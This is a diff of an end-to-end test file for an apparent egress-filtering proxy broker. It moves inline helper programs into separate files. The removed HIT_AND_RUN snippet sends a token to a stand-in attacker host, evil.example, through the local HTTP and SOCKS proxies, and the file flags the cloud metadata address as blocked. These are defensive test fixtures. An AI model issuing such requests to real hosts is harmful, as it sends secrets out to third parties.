@@ -19,16 +19,16 @@ import sys
 import time
 import uuid
 from collections import Counter
-from pathlib import Path
 
 import pytest
 
 from e2e_support import assert_every_connection_accounted, connections, describe, run_events
+from progs_support import prog_text
 from stages.record.check import check_run
 
 pytestmark = pytest.mark.world
 
-GUARD_PROBE = (Path(__file__).resolve().parent / "progs" / "guard_probe.py").read_text()
+GUARD_PROBE = prog_text("guard_probe.py")
 
 HUMAN_TIME = r"\d\d:\d\d:\d\d\.\d{3}"
 METADATA_REASON = ("169.254.169.254: link-local address (169.254.0.0/16), where cloud "
@@ -547,15 +547,7 @@ def test_a_port_in_a_rule_allows_that_port_only(world, user):
 # Sends one request through each door without waiting for any answer, and
 # exits at once: the connections are still in the doors' backlogs when the
 # helper ends (at the start of a run, before the broker's loop has loaded).
-HIT_AND_RUN = r'''
-import os, socket, sys
-http = socket.create_connection(("127.0.0.1", 3128))
-http.sendall(b"GET http://evil.example/steal?token=t0ken HTTP/1.1\r\nHost: evil.example\r\n\r\n")
-socks = socket.create_connection(("127.0.0.1", 1080))
-name = b"evil.example"
-socks.sendall(b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name + (443).to_bytes(2, "big"))
-os._exit(int(sys.argv[1]))
-'''
+HIT_AND_RUN = prog_text("hit_and_run.py")
 
 
 @pytest.mark.parametrize("program_exit", [0, 3])
